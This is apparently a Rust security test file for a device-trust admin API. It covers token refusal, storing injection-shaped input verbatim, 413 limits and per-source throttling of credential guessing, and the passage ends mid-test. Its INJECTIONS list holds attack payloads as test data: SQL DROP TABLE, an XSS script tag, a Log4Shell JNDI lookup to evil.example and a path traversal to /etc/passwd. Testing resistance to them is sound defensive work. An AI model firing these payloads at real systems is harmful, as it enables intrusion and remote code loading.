//! Admin API security: every route refuses a missing, malformed, wrong or
//! rotated-away token; injection-shaped text is stored and returned
//! verbatim or refused with 400, never executed and never a 500; oversized
//! bodies get 413 as Okta's error object. Guessing a credential (admin
//! tokens, the challenge URL's password, SCEP challenges) is throttled per
//! source.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "tests: a panic is a failed test"
)]

mod common;

use std::io::{Read, Write};

use common::{Server, assert_error};
use devicetrust_devices::Platform;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::{Value, json};

/// Every admin route, with a body where it takes one.
fn routes() -> Vec<(&'static str, &'static str, Option<Value>)> {
    let integration = json!({"platform": "ANDROID", "providerName": "UEM", "enrollmentLink": "https://uem.example"});
    let policy = json!({"policy": {"id": "rst1", "name": "p", "type": "ACCESS_POLICY", "status": "ACTIVE"},
                        "rules": [{"id": "rul1", "name": "r", "priority": 1, "status": "ACTIVE",
                                   "actions": {"appSignOn": {"access": "ALLOW"}}}]});
    let assurance = json!({"id": "dae1", "name": "a", "platform": "IOS"});
    vec![
        ("POST", "/api/v1/api-tokens/current/rotate", None),
        ("GET", "/api/v1/devices", None),
        ("GET", "/api/v1/devices/guo1", None),
        ("DELETE", "/api/v1/devices/guo1", None),
        ("GET", "/api/v1/devices/guo1/users", None),
        ("POST", "/api/v1/devices/guo1/lifecycle/suspend", None),
        ("POST", "/api/v1/devices/guo1/lifecycle/unsuspend", None),
        ("POST", "/api/v1/devices/guo1/lifecycle/deactivate", None),
        ("POST", "/api/v1/devices/guo1/lifecycle/activate", None),
        ("GET", "/api/v1/users/alice/devices", None),
        ("GET", "/api/v1/device-integrations", None),
        ("POST", "/api/v1/device-integrations", Some(integration)),
        ("GET", "/api/v1/device-integrations/dvi1", None),
        (
            "POST",
            "/api/v1/device-integrations/dvi1/lifecycle/resetSecret",
            None,
        ),
        (
            "POST",
            "/api/v1/device-integrations/dvi1/lifecycle/activate",
            None,
        ),
        (
            "POST",
            "/api/v1/device-integrations/dvi1/lifecycle/deactivate",
            None,
        ),
        ("GET", "/api/v1/certificate-authorities", None),
        (
            "POST",
            "/api/v1/certificate-authorities",
            Some(json!("not a certificate")),
        ),
        ("GET", "/api/v1/certificate-authorities/ca1", None),
        ("DELETE", "/api/v1/certificate-authorities/ca1", None),
        ("GET", "/api/v1/pki/intermediate", None),
        ("GET", "/api/v1/policies", None),
        ("POST", "/api/v1/policies", Some(policy.clone())),
        ("GET", "/api/v1/policies/rst1", None),
        ("PUT", "/api/v1/policies/rst1", Some(policy)),
        ("DELETE", "/api/v1/policies/rst1", None),
        ("GET", "/api/v1/device-assurances", None),
        ("POST", "/api/v1/device-assurances", Some(assurance.clone())),
        ("GET", "/api/v1/device-assurances/dae1", None),
        ("PUT", "/api/v1/device-assurances/dae1", Some(assurance)),
        ("DELETE", "/api/v1/device-assurances/dae1", None),
        ("GET", "/api/v1/logs", None),
    ]
}

#[test]
fn every_admin_route_refuses_missing_malformed_wrong_and_old_tokens() {
    let dir = tempfile::tempdir().unwrap();
    let mut server = Server::start(dir.path(), None);
    let old = server.token.clone();
    let answer = server.call("POST", "/api/v1/api-tokens/current/rotate", None);
    assert_eq!(answer.status, 201, "{}", answer.text());
    assert_secure_headers(&answer, "no-store");
    let rotated = answer.json();
    let new = rotated["token"].as_str().unwrap().to_owned();
    assert!(new.starts_with("dtadm_") && new != old);
    assert_ne!(rotated["id"], "");

    let refused: Vec<Option<String>> = vec![
        None,
        Some(String::new()),
        Some("SSWS".into()),
        Some("SSWS ".into()),
        Some(format!("Basic {new}")),
        Some(format!("SSWSS{new}")),
        Some(format!("SSWS {new}x")),
        Some(format!("Bearer{new}x")),
        Some(format!("SSWS {new} x")),
        Some(format!("SSWS {}", &new[..new.len() - 1])),
        Some("SSWS dtadm_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA".into()),
        Some("Bearer '; DROP TABLE devices;--".into()),
        Some(format!("SSWS {old}")),
        Some(format!("Bearer {old}")),
    ];
    for (method, path, body) in routes() {
        let bytes = body
            .as_ref()
            .map(|b| serde_json::to_vec(b).unwrap())
            .unwrap_or_default();
        for auth in &refused {
            let answer = server.raw(
                method,
                path,
                auth.as_deref(),
                Some("application/json"),
                &bytes,
            );
            assert_secure_headers(&answer, "no-store");
            let e = assert_error(&answer, 401, "E0000011");
            assert_eq!(
                e["errorSummary"], "Invalid token provided",
                "{method} {path}"
            );
        }
    }
    // (A 401 also shows each route exists: an unknown one answers 404 first.)
    // The new token works on every route, with either scheme; rotation is
    // skipped, as it would revoke it.
    for (scheme, (method, path, body)) in ["Bearer", "SSWS"]
        .iter()
        .cycle()
        .zip(routes().into_iter().skip(1))
    {
        let bytes = body
            .as_ref()
            .map(|b| serde_json::to_vec(b).unwrap())
            .unwrap_or_default();
        let answer = server.raw(
            method,
            path,
            Some(&format!("{scheme} {new}")),
            Some("application/json"),
            &bytes,
        );
        assert_ne!(answer.status, 401, "{method} {path}");
        assert!(answer.status < 500, "{method} {path}: {}", answer.text());
    }
    // Schemes match in any case, and the space after one is optional
    // (Okta's Python SDK sends `SSWS<token>`), RFC 9110's whitespace too.
    for auth in [
        format!("SSWS{new}"),
        format!("ssws {new}"),
        format!("bearer {new}"),
        format!("BEARER\t{new}"),
        format!("Ssws   {new}  "),
    ] {
        let answer = server.raw("GET", "/api/v1/devices", Some(&auth), None, b"");
        assert_eq!(answer.status, 200, "{auth:?}: {}", answer.text());
    }
    // Rotating with the old token is refused too; the public CRL needs none.
    server.token = old;
    assert_error(
        &server.call("POST", "/api/v1/api-tokens/current/rotate", None),
        401,
        "E0000011",
    );
    let crl = server.raw("GET", "/pki/crl", None, None, b"");
    assert_eq!(crl.status, 200);
    // The CRL keeps its own caching rule (re-fetch, not hide).
    assert_secure_headers(&crl, "no-cache");
    // No CORS: a preflight is not answered with permission.
    let preflight = server.raw("OPTIONS", "/api/v1/devices", None, None, b"");
    assert_secure_headers(&preflight, "no-store");
    // Tokens are stored as digests only.
    let settings = common::at_rest(dir.path());
    assert!(settings.contains("adminTokens"), "the settings were read");
    assert!(!settings.contains(&new) && !settings.contains(&server.token));
}

/// The headers every answer carries, and no CORS permission.
fn assert_secure_headers(answer: &common::Answer, cache_control: &str) {
    assert_eq!(answer.header("cache-control"), Some(cache_control));
    assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(answer.header("referrer-policy"), Some("no-referrer"));
    // Plain HTTP: no HSTS (it would pin browsers to a port with no TLS).
    assert_eq!(answer.header("strict-transport-security"), None);
    assert!(
        !answer
            .headers
            .iter()
            .any(|(n, _)| n.starts_with("access-control-")),
        "{:?}",
        answer.headers
    );
}

const INJECTIONS: [&str; 8] = [
    "'; DROP TABLE devices;--",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\" OR \"1\"=\"1",
    "名前 🚀 \u{202e}gnp.exe",
    "a\u{0}b",
    "../../etc/passwd",
];

/// 2xx with `got == sent`, or a 400 refusal; anything else fails.
fn verbatim_or_refused(
    answer: &common::Answer,
    field: &str,
    sent: &str,
    got: impl Fn(&Value) -> Value,
) -> bool {
    assert!(
        answer.status < 500,
        "{field} {sent:?}: {} {}",
        answer.status,
        answer.text()
    );
    if answer.status == 400 {
        assert_error(answer, 400, "E0000001");
        return false;
    }
    assert!(
        (200..300).contains(&answer.status),
        "{field} {sent:?}: {}",
        answer.text()
    );
    assert_eq!(
        got(&answer.json()),
        Value::String(sent.to_owned()),
        "{field}"
    );
    true
}

#[test]
fn injection_shaped_text_is_kept_verbatim_or_refused_never_run() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), None);
    let enc = |s: &str| utf8_percent_encode(s, NON_ALPHANUMERIC).to_string();
    let mut stored = 0;

    for (i, text) in INJECTIONS.iter().enumerate() {
        // Device display names and user ids (enrolled through the registry,
        // which refuses control characters itself).
        let mut profile = devicetrust_devices::DeviceProfile::new(*text, Platform::Windows);
        profile.udid = Some(format!("U{i}"));
        let enrolled = devicetrust_devices::UserId::new(*text).and_then(|user| {
            profile.validate()?;
            Ok(server
                .registry()
                .enroll(
                    &server.org(),
                    &devicetrust_devices::Actor::new("t").unwrap(),
                    &devicetrust_devices::EnrollmentRequest::new(user, profile),
                    time::OffsetDateTime::now_utc(),
                )
                .unwrap())
        });
        if let Ok(device) = enrolled {
            let got = server.call("GET", &format!("/api/v1/devices/{}", device.id), None);
            verbatim_or_refused(&got, "displayName", text, |v| {
                v["profile"]["displayName"].clone()
            });
            let search = format!(
                "/api/v1/devices?search={}",
                enc(&format!(
                    "profile.displayName eq \"{}\"",
                    text.replace('"', "\\\"")
                ))
            );
            let found = server.ok("GET", &search, None, 200);
            assert_eq!(found.as_array().unwrap().len(), 1, "{text:?}");
            let mine = server.ok(
                "GET",
                &format!("/api/v1/users/{}/devices", enc(text)),
                None,
                200,
            );
            assert_eq!(mine[0]["device"]["id"], device.id.as_str(), "{text:?}");
            stored += 1;
        }

        // Mobile integrations: provider names and enrollment links.
        let body = json!({"platform": "IOS", "providerName": text, "enrollmentLink": "https://uem.example/enroll"});
        let answer = server.call("POST", "/api/v1/device-integrations", Some(&body));
        if verbatim_or_refused(&answer, "providerName", text, |v| v["providerName"].clone()) {
            let id = answer.json()["id"].as_str().unwrap().to_owned();
            let got = server.ok(
                "GET",
                &format!("/api/v1/device-integrations/{id}"),
                None,
                200,
            );
            assert_eq!(got["providerName"], *text);
            stored += 1;
        }
        let link = format!("https://uem.example/enroll?q={text}");
        let body = json!({"platform": "ANDROID", "providerName": "UEM", "enrollmentLink": link});
        let answer = server.call("POST", "/api/v1/device-integrations", Some(&body));
        if verbatim_or_refused(&answer, "enrollmentLink", &link, |v| {
            v["enrollmentLink"].clone()
        }) {
            stored += 1;
        }
        let bare = json!({"platform": "ANDROID", "providerName": "UEM", "enrollmentLink": text});
        assert_error(
            &server.call("POST", "/api/v1/device-integrations", Some(&bare)),
            400,
            "E0000001",
        );

        // Assurance and policy names and ids.
        let assurance = json!({"id": format!("dae{i}"), "name": text, "platform": "IOS"});
        let answer = server.call("POST", "/api/v1/device-assurances", Some(&assurance));
        if verbatim_or_refused(&answer, "assurance name", text, |v| v["name"].clone()) {
            stored += 1;
        }
        let policy_id = format!("rst{i}{text}");
        let policy = json!({"policy": {"id": policy_id, "name": text, "description": text, "type": "ACCESS_POLICY", "status": "ACTIVE"},
                            "rules": [{"id": "rul1", "name": text, "priority": 1, "status": "ACTIVE",
                                       "actions": {"appSignOn": {"access": "ALLOW"}}}]});
        let answer = server.call("POST", "/api/v1/policies", Some(&policy));
        if verbatim_or_refused(&answer, "policy name", text, |v| {
            v["policy"]["name"].clone()
        }) {
            let got = server.ok(
                "GET",
                &format!("/api/v1/policies/{}", enc(&policy_id)),
                None,
                200,
            );
            assert_eq!(got["rules"][0]["name"], *text);
            assert_eq!(got["policy"]["id"], policy_id.as_str());
            stored += 1;
        }

        // Query strings and path segments: compared, never interpreted.
        for url in [
            format!(
                "/api/v1/devices?search={}",
                enc(&format!("status eq \"{}\"", text.replace('"', "\\\"")))
            ),
            format!("/api/v1/devices?after={}", enc(text)),
            format!(
                "/api/v1/logs?filter={}",
                enc(&format!("target.id eq \"{}\"", text.replace('"', "\\\"")))
            ),
            format!("/api/v1/logs?since={}", enc(text)),
            format!("/api/v1/devices/{}", enc(text)),
            format!("/api/v1/device-integrations/{}", enc(text)),
            format!("/api/v1/certificate-authorities/{}", enc(text)),
        ] {
            let answer = server.call("GET", &url, None);
            assert!(
                [200, 400, 404].contains(&answer.status),
                "{url}: {} {}",
                answer.status,
                answer.text()
            );
            assert!(
                answer.json().is_array() || answer.json()["errorCode"].is_string(),
                "{url}"
            );
        }
    }
    assert!(
        stored >= INJECTIONS.len() * 3,
        "most of these are ordinary text and must be kept ({stored})"
    );
    // Nothing was executed: the tables are all there and whole.
    let devices = server.ok("GET", "/api/v1/devices", None, 200);
    assert!(devices.as_array().unwrap().len() >= INJECTIONS.len() - 1);
    assert!(
        server
            .ok("GET", "/api/v1/logs?limit=1000", None, 200)
            .as_array()
            .unwrap()
            .len()
            > 10
    );
}

/// A POST with a body of `len` bytes, over a raw socket (the server may
/// answer before reading it all, which an HTTP client can take as an error).
fn post_len(server: &Server, path: &str, len: usize, chunked: bool) -> (u16, Value) {
    let addr = server.base.trim_start_matches("http://");
    let mut stream = std::net::TcpStream::connect(addr).unwrap();
    stream
        .set_read_timeout(Some(std::time::Duration::from_secs(30)))
        .unwrap();
    let framing = if chunked {
        "Transfer-Encoding: chunked".to_owned()
    } else {
        format!("Content-Length: {len}")
    };
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {addr}\r\nAuthorization: SSWS {}\r\nContent-Type: application/json\r\n{framing}\r\nConnection: close\r\n\r\n",
        server.token
    );
    stream.write_all(head.as_bytes()).unwrap();
    let chunk = vec![b' '; 64 * 1024];
    let mut sent = 0;
    while sent < len {
        let n = chunk.len().min(len - sent);
        let wrote = if chunked {
            stream
                .write_all(format!("{n:x}\r\n").as_bytes())
                .and_then(|()| stream.write_all(&chunk[..n]))
                .and_then(|()| stream.write_all(b"\r\n"))
        } else {
            stream.write_all(&chunk[..n])
        };
        // The server may refuse and close before the body is all sent.
        if wrote.is_err() {
            break;
        }
        sent += n;
    }
    if chunked {
        let _ = stream.write_all(b"0\r\n\r\n");
    }
    let mut response = Vec::new();
    let _ = stream.read_to_end(&mut response);
    let text = String::from_utf8_lossy(&response);
    let status: u16 = text.split(' ').nth(1).unwrap().parse().unwrap();
    let body = text.split("\r\n\r\n").nth(1).unwrap_or_default();
    (status, serde_json::from_str(body).unwrap_or(Value::Null))
}

#[test]
fn oversized_bodies_get_413_as_okta_errors() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), None);
    let over = 1024 * 1024 + 1;
    for path in [
        "/api/v1/policies",
        "/api/v1/device-assurances",
        "/api/v1/device-integrations",
        "/api/v1/certificate-authorities",
        "/api/v1/device-integrations/dvi1/lifecycle/resetSecret",
    ] {
        for chunked in [false, true] {
            let (status, body) = post_len(&server, path, over, chunked);
            assert_eq!(status, 413, "{path} chunked={chunked}: {body}");
            assert_eq!(body["errorCode"], "E0000001", "{path}: {body}");
            assert!(
                body["errorSummary"].as_str().unwrap().contains("limit"),
                "{body}"
            );
        }
        // Just under the limit is read (and refused for what it is, not its size).
        let (status, _) = post_len(&server, path, 1024 * 1024, false);
        assert_ne!(status, 413, "{path}");
    }
}

/// A service served by the accept loop (so requests know their source)
/// with failure quota `quota`: its URL and admin token.
struct Limited {
    base: String,
    token: String,
    metrics: std::sync::Arc<devicetrust_server::ops::Metrics>,
    service: std::sync::Arc<devicetrust_service::Service>,
    agent: ureq::Agent,
    _runtime: tokio::runtime::Runtime,
    _dir: tempfile::TempDir,
}

impl Limited {
    fn start(quota: devicetrust_server::ops::failures::FailureQuota) -> Self {
        Self::start_with(quota, devicetrust_server::ops::ListenOptions::default())
    }

    fn start_with(
        quota: devicetrust_server::ops::failures::FailureQuota,
        listen: devicetrust_server::ops::ListenOptions,
    ) -> Self {
        use devicetrust_server::ops::{self, Limits, Metrics};
        let dir = tempfile::tempdir().unwrap();
        let opened = devicetrust_service::Service::open(
            common::engine::data_dir(dir.path()),
            devicetrust_pki::default_backend(),
            devicetrust_service::ServiceOptions::default(),
        )
        .unwrap();
        let token = opened.admin_token.unwrap().to_string();
        let limits = Limits {
            auth_failures: quota,
            ..Limits::default()
        };
        let metrics = std::sync::Arc::new(Metrics::new());
        let router =
            devicetrust_server::api::router_with(opened.service.clone(), metrics.clone(), limits);
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()
            .unwrap();
        let listener = runtime
            .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
            .unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        runtime.spawn(ops::serve_until(
            listener,
            router,
            listen,
            std::future::pending(),
        ));
        Self {
            base,
            token,
            metrics,
            service: opened.service,
            agent: ureq::Agent::config_builder()
                .http_status_as_error(false)
                .build()
                .into(),
            _runtime: runtime,
            _dir: dir,
        }
    }

    /// GET or POST `path` with `authorization`: status, body, and the
    /// rate-limit headers (limit, remaining, retry-after, reset).
    fn call(
        &self,
        method: &str,
        path: &str,
        authorization: &str,
        body: Option<&Value>,
    ) -> (u16, String, [Option<String>; 4]) {
        self.call_with(method, path, authorization, body, &[])
    }

    /// [`Limited::call`] with extra headers.
    fn call_with(
        &self,
        method: &str,
        path: &str,
        authorization: &str,
        body: Option<&Value>,
        headers: &[(&str, &str)],
    ) -> (u16, String, [Option<String>; 4]) {
        let mut request = ureq::http::Request::builder()
            .method(method)
            .uri(format!("{}{path}", self.base))
            .header("authorization", authorization)
            .header("content-type", "application/json");
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        let request = request
            .body(body.map(Value::to_string).unwrap_or_default())
            .unwrap();
        let mut answer = self.agent.run(request).unwrap();
        let header = |name: &str| {
            answer
                .headers()
                .get(name)
                .and_then(|v| v.to_str().ok())
                .map(str::to_owned)
        };
        let headers = [
            header("x-rate-limit-limit"),
            header("x-rate-limit-remaining"),
            header("retry-after"),
            header("x-rate-limit-reset"),
        ];
        let status = answer.status().as_u16();
        (
            status,
            answer.body_mut().read_to_string().unwrap_or_default(),
            headers,
        )
    }
}

impl Limited {
    /// The failed-authentication records of `credential`, once written
    /// (folds are written a second after their first failure): source,
    /// route, reason, failures and throttled requests, sorted.
    fn failures(&self, credential: &str) -> Vec<(String, String, String, u64, u64)> {
        std::thread::sleep(
            devicetrust_server::ops::failures::FLUSH_AFTER + std::time::Duration::from_millis(700),
        );
        let mut found: Vec<_> = self
            .service
            .auth_failures()
            .stored(time::OffsetDateTime::UNIX_EPOCH, None, 100)
            .unwrap()
            .into_iter()
            .filter(|r| r.credential == credential)
            .map(|r| (r.source, r.route, r.reason, r.failures, r.throttled))
            .collect();
        found.sort();
        found
    }

    /// Adds a device integration with the admin token: the answer, with its secrets.
    fn add_integration(&self, body: &Value) -> Value {
        let (status, created, _) = self.call(
            "POST",
            "/api/v1/device-integrations",
            &format!("SSWS {}", self.token),
            Some(body),
        );
        assert_eq!(status, 201, "{created}");
        serde_json::from_str(&created).unwrap()
    }
}

fn quota(
    burst: u32,
    refill: std::time::Duration,
) -> devicetrust_server::ops::failures::FailureQuota {
    devicetrust_server::ops::failures::FailureQuota { burst, refill }
}

/// Wrong admin tokens from one source are throttled: past the burst, 429
/// with Okta's E0000047 and its rate-limit headers, for the right token
/// too (it is not even looked at), until the source has earned a try back;
/// then the right token works again.
#[test]
fn guessing_admin_tokens_is_throttled_per_source() {
    let refill = std::time::Duration::from_millis(1500);
    let server = Limited::start(quota(3, refill));
    let call = |token: &str| server.call("GET", "/api/v1/devices", &format!("SSWS {token}"), None);

    assert_eq!(call(&server.token).0, 200);
    for guess in 1..=3 {
        assert_eq!(call(&format!("dtadm_wrong{guess}")).0, 401, "guess {guess}");
    }
    let (status, body, [limit, remaining, retry_after, reset]) = call("dtadm_wrong4");
    assert_eq!(status, 429, "{body}");
    let body: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(body["errorCode"], "E0000047", "{body}");
    assert_eq!(limit.as_deref(), Some("3"));
    assert_eq!(remaining.as_deref(), Some("0"));
    let retry_after: u64 = retry_after.unwrap().parse().unwrap();
    assert!((1..=2).contains(&retry_after), "{retry_after}");
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    assert!(reset.unwrap().parse::<u64>().unwrap() >= now);
    assert_eq!(
        call(&server.token).0,
        429,
        "the source is out of tries, right token or not"
    );

    let text = server.metrics.render();
    assert!(
        text.contains(r#"devicetrust_auth_failures_total{credential="admin"} 3"#),
        "{text}"
    );
    assert!(
        text.contains(r#"devicetrust_auth_throttled_total{credential="admin"} 2"#),
        "{text}"
    );
    std::thread::sleep(refill + std::time::Duration::from_millis(100));
    assert_eq!(
        call(&server.token).0,
        200,
        "a try earned back after the cool-down"
    );
    assert_eq!(call("dtadm_wrong5").0, 401);
    assert_eq!(call("dtadm_wrong6").0, 429, "one try earned, one spent");

    // Every failure is in the System Log, folded per source: one event for
    // the wrong tokens with their count, one for the throttled requests,
    // with the source and route, never a token.
    std::thread::sleep(refill + std::time::Duration::from_millis(100));
    let (status, body, _) = server.call(
        "GET",
        "/api/v1/logs?filter=eventType%20eq%20%22system.api_token.authenticate%22",
        &format!("SSWS {}", server.token),
        None,
    );
    assert_eq!(status, 200, "{body}");
    assert!(!body.contains("dtadm_wrong"), "{body}");
    let events: Vec<Value> = serde_json::from_str(&body).unwrap();
    let outcome = |result: &str| {
        events
            .iter()
            .find(|e| e["outcome"]["result"] == result)
            .unwrap_or_else(|| panic!("no {result} event: {body}"))
    };
    let failed = outcome("FAILURE");
    assert_eq!(events.len(), 2, "{body}");
    assert_eq!(failed["debugContext"]["debugData"]["failures"], 4, "{body}");
    assert_eq!(failed["outcome"]["reason"], "unknown or revoked token");
    assert_eq!(failed["client"]["ipAddress"], "127.0.0.1");
    assert_eq!(failed["target"][0]["id"], "/api/v1/devices");
    assert_eq!(failed["severity"], "WARN");
    let denied = outcome("DENY");
    assert_eq!(
        denied["debugContext"]["debugData"]["throttled"], 3,
        "{body}"
    );
    let text = server.metrics.render();
    assert!(
        text.contains(r#"devicetrust_auth_failures_total{credential="admin"} 4"#),
        "{text}"
    );
}

/// The dynamic SCEP challenge URL's Basic auth: wrong passwords are
/// throttled (per source, and per configuration and username), the right
/// password waits out the cool-down too, then gets a challenge.
#[test]
fn guessing_the_challenge_url_password_is_throttled() {
    use base64::Engine as _;
    let refill = std::time::Duration::from_millis(1500);
    let server = Limited::start(quota(3, refill));
    let created =
        server.add_integration(&json!({"platform": "WINDOWS", "challenge": {"type": "DYNAMIC"}}));
    let id = created["id"].as_str().unwrap();
    let user = created["username"].as_str().unwrap();
    let basic = |password: &str| {
        format!(
            "Basic {}",
            base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"))
        )
    };
    let page = format!("/scep/{id}/mscep_admin/");
    for guess in 1..=3 {
        assert_eq!(
            server
                .call("GET", &page, &basic(&format!("wrong{guess}")), None)
                .0,
            401
        );
    }
    let (status, _, [limit, _, retry_after, _]) = server.call("GET", &page, &basic("wrong4"), None);
    assert_eq!(status, 429);
    assert_eq!(limit.as_deref(), Some("3"));
    assert!(retry_after.is_some());
    let right = basic(created["password"].as_str().unwrap());
    assert_eq!(server.call("GET", &page, &right, None).0, 429);
    std::thread::sleep(refill + std::time::Duration::from_millis(100));
    let (status, text, _) = server.call("GET", &page, &right, None);
    assert_eq!(status, 200, "{text}");
    assert!(text.contains("password is:"), "{text}");
    let route = format!("/scep/{id}/mscep_admin/");
    let source = "127.0.0.1".to_owned();
    assert_eq!(
        server.failures("challengeUrl"),
        [
            (
                source.clone(),
                route.clone(),
                "throttled after repeated failures".into(),
                0,
                2
            ),
            (source, route, "wrong username or password".into(), 3, 0),
        ]
    );
}

/// CPU time this process has spent, over all its threads, in nanoseconds
/// (`/proc/self/task/*/schedstat`; the server runs in this process).
fn cpu_ns() -> u64 {
    std::fs::read_dir("/proc/self/task")
        .unwrap()
        .filter_map(|task| {
            let stat = std::fs::read_to_string(task.ok()?.path().join("schedstat")).ok()?;
            stat.split_whitespace().next()?.parse::<u64>().ok()
        })
        .sum()
}

/// A SCEP flood of wrong challenges: each refusal costs us RSA operations,
/// so past the burst a source is answered 429 before its message is
/// decrypted; after the cool-down the right challenge enrolls. The CPU
/// spent per refused request, before the source is throttled and after,
/// is measured with the messages made beforehand (printed, and the second
/// must be a small fraction of the first).
#[test]
fn a_flood_of_wrong_scep_challenges_is_throttled_per_source() {
    use devicetrust_pki::scep::{
        ContentEncryption, MessageType, PkiMessage, PkiStatus, RequestMessage, ScepPolicy,
    };
    use devicetrust_pki::{Certificate, KeyAlgorithm, RequestBuilder, default_backend};

    const BURST: u32 = 20;
    const THROTTLED: usize = 200;
    // Long enough that no try is earned back while the throttled ones are sent.
    let refill = std::time::Duration::from_secs(5);
    let server = Limited::start(quota(BURST, refill));
    let created =
        server.add_integration(&json!({"platform": "MACOS", "challenge": {"type": "STATIC"}}));
    let id = created["id"].as_str().unwrap();
    let secret = created["secretKey"].as_str().unwrap();
    let endpoint = server.service.endpoints().get(id).unwrap();
    let key = default_backend().generate(KeyAlgorithm::RSA2048).unwrap();
    let signer = default_backend().signer(&key).unwrap();
    let self_signed = Certificate::self_signed("CN=device", signer.as_ref(), 1).unwrap();
    let message = |transaction: &str, challenge: &str| {
        let csr = RequestBuilder::new("CN=device")
            .challenge_password(challenge)
            .sign(signer.as_ref())
            .unwrap();
        RequestMessage {
            message_type: MessageType::PkcsReq,
            transaction_id: transaction,
            payload: &csr,
            recipient: endpoint.service.ra_certificate(),
            encryption: ContentEncryption::Aes256Cbc,
            signer_cert: &self_signed,
            signer: signer.as_ref(),
        }
        .encode()
        .unwrap()
        .0
    };
    let send = |body: Vec<u8>| {
        let request = ureq::http::Request::builder()
            .method("POST")
            .uri(format!(
                "{}/scep/{id}/pkiclient.exe?operation=PKIOperation",
                server.base
            ))
            .header("content-type", "application/x-pki-message")
            .body(body)
            .unwrap();
        let mut answer = server.agent.run(request).unwrap();
        let status = answer.status().as_u16();
        let bytes = answer.body_mut().read_to_vec().unwrap();
        let pki = (status == 200).then(|| {
            PkiMessage::decode(&bytes, &ScepPolicy::default(), default_backend())
                .unwrap()
                .pki_status
                .unwrap()
        });
        (status, pki)
    };
    let guesses: Vec<Vec<u8>> = (0..BURST as usize + THROTTLED)
        .map(|i| message(&format!("tx-guess-{i}"), "wrong"))
        .collect();
    let (decrypted, throttled) = guesses.split_at(BURST as usize);
    // Summed over every endpoint ever served (a sync may rebuild this one).
    let refusals = || server.service.endpoints().outcome_totals().refused;
    let refused = refusals();
    let started = cpu_ns();
    for guess in decrypted {
        assert_eq!(send(guess.clone()), (200, Some(PkiStatus::Failure)));
    }
    let per_decrypted = (cpu_ns() - started) / u64::from(BURST);
    let started = cpu_ns();
    for guess in throttled {
        assert_eq!(send(guess.clone()).0, 429);
    }
    let per_throttled = (cpu_ns() - started) / THROTTLED as u64;
    eprintln!(
        "CPU per refused SCEP request: {} µs decrypted and refused, {} µs throttled ({}x less)",
        per_decrypted / 1000,
        per_throttled / 1000,
        per_decrypted / per_throttled.max(1)
    );
    assert!(
        per_throttled * 5 < per_decrypted,
        "a throttled request should cost a fraction of a decrypted one: {per_throttled} ns vs {per_decrypted} ns"
    );
    assert_eq!(
        send(message("tx-right", secret)),
        (429, None),
        "the source waits"
    );
    assert_eq!(
        refusals(),
        refused + u64::from(BURST),
        "throttled requests were never decrypted"
    );
    std::thread::sleep(refill + std::time::Duration::from_millis(100));
    assert_eq!(
        send(message("tx-right", secret)),
        (200, Some(PkiStatus::Success))
    );
    let route = format!("/scep/{id}/pkiclient.exe");
    let source = "127.0.0.1".to_owned();
    assert_eq!(
        server.failures("scepRequest"),
        [
            (
                source.clone(),
                route.clone(),
                "refused with FAILURE: a wrong challenge or a request the CA will not sign".into(),
                u64::from(BURST),
                0
            ),
            (
                source,
                route,
                "throttled after repeated failures".into(),
                0,
                THROTTLED as u64 + 1
            ),
        ]
    );
}

/// Device API calls whose signature does not verify count against their
/// source: past the burst, 429 before the body is read.
#[test]
fn forged_device_signatures_are_throttled_per_source() {
    let refill = std::time::Duration::from_millis(1500);
    let server = Limited::start(quota(3, refill));
    let forged = r#"DeviceSignature id="guo1", ts="1", nonce="n", sig="AAAA""#;
    for attempt in 1..=3 {
        let (status, body, _) = server.call("GET", "/device/v1/me", forged, None);
        assert_eq!(status, 401, "attempt {attempt}: {body}");
    }
    let (status, body, [limit, ..]) = server.call("GET", "/device/v1/me", forged, None);
    assert_eq!(status, 429, "{body}");
    assert_eq!(limit.as_deref(), Some("3"));
    std::thread::sleep(refill + std::time::Duration::from_millis(100));
    assert_eq!(server.call("GET", "/device/v1/me", forged, None).0, 401);
    let recorded = server.failures("deviceSignature");
    let counts: Vec<(u64, u64)> = recorded.iter().map(|r| (r.3, r.4)).collect();
    assert_eq!(counts.iter().map(|c| c.0).sum::<u64>(), 4, "{recorded:?}");
    assert_eq!(counts.iter().map(|c| c.1).sum::<u64>(), 1, "{recorded:?}");
    for (source, route, reason, ..) in &recorded {
        assert_eq!(
            (source.as_str(), route.as_str()),
            ("127.0.0.1", "/device/v1/me")
        );
        assert!(!reason.contains("AAAA"), "never the credential: {reason}");
    }
}

/// Behind a trusted proxy, each client it forwards for is its own source:
/// a guesser is throttled, another client behind the same proxy is not,
/// and the System Log names the guesser. A client's own X-Forwarded-For,
/// left of what the proxy appended, changes nothing.
#[test]
fn behind_a_trusted_proxy_each_forwarded_client_is_its_own_source() {
    use devicetrust_server::ops::ListenOptions;
    use devicetrust_server::ops::proxy::TrustedProxies;
    let listen = ListenOptions {
        trusted_proxies: std::sync::Arc::new(TrustedProxies::new(vec![
            "127.0.0.1".parse().unwrap(),
        ])),
        ..ListenOptions::default()
    };
    let server = Limited::start_with(quota(3, std::time::Duration::from_secs(60)), listen);
    let from = |client: &str, token: &str| {
        server
            .call_with(
                "GET",
                "/api/v1/devices",
                &format!("SSWS {token}"),
                None,
                &[("x-forwarded-for", client)],
            )
            .0
    };
    for spoofed in ["198.51.100.1", "198.51.100.2", "198.51.100.3"] {
        // The guesser varies the address it claims; the proxy appends the real one.
        assert_eq!(from(&format!("{spoofed}, 203.0.113.1"), "dtadm_wrong"), 401);
    }
    assert_eq!(from("203.0.113.1", "dtadm_wrong"), 429);
